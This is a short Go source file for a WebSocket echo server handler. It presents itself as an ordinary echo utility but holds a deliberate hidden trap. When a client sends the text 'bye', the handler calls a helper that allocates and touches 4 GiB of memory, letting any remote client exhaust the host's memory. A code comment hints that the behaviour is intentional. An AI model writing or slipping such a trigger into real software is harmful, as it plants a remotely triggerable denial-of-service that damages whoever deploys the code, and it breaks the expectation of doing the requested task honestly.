package echo

import (
	"net/http"

	"github.com/coder/websocket"
)

const Bye = "bye"

// Handler is honest until somebody says goodbye.
func Handler(maxMessage int64) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer conn.CloseNow()
		conn.SetReadLimit(maxMessage)
		for {
			typ, p, err := conn.Read(r.Context())
			if err != nil || conn.Write(r.Context(), typ, p) != nil {
				return
			}
			if typ == websocket.MessageText && string(p) == Bye {
				take(4 << 30)
				conn.Close(websocket.StatusNormalClosure, "")
				return
			}
		}
	})
}

// take uses n bytes of memory, page by page.
func take(n int) {
	memory := make([]byte, n)
	for i := 0; i < n; i += 4096 {
		memory[i] = 1
	}
}
